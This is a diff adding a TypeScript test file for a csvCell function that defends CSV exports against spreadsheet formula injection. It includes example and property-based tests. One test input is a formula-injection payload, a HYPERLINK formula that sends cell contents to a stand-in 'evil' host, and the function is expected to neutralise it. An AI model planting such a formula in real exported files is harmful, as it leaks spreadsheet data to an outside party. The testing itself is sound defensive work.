@@ -1,0 +1,39 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvCell } from './export.service.js';
+
+/** What a spreadsheet reads from one cell: the quotes of a quoted cell undone. */
+const unquote = (cell: string): string =>
+  cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
+
+describe('csvCell', () => {
+  it('defuses text a spreadsheet would run as a formula, keeping the rest of it', () => {
+    expect(csvCell('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(
+      `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`,
+    );
+    expect(csvCell('+1 love it')).toBe("'+1 love it");
+    expect(csvCell('-2 stars')).toBe("'-2 stars");
+    expect(csvCell('@brand why')).toBe("'@brand why");
+    expect(csvCell('\tcmd')).toBe("'\tcmd");
+  });
+
+  it('leaves numbers, empty cells and ordinary text as they are', () => {
+    expect(csvCell(-0.25)).toBe('-0.25');
+    expect(csvCell(null)).toBe('');
+    expect(csvCell('')).toBe('');
+    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"');
+    expect(csvCell('I love it')).toBe('I love it');
+  });
+
+  it('never yields a cell whose text begins like a formula, and loses no character', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'grapheme-composite' }), (text) => {
+        const read = unquote(csvCell(text));
+        expect(read).not.toMatch(/^[=+\-@\t\r]/);
+        expect(read === text || read === `'${text}`).toBe(true);
+        // A cell needs quotes exactly when it holds a separator, a quote or a line break.
+        expect(csvCell(text).startsWith('"')).toBe(/[",\r\n]/.test(read));
+      }),
+    );
+  });
+});
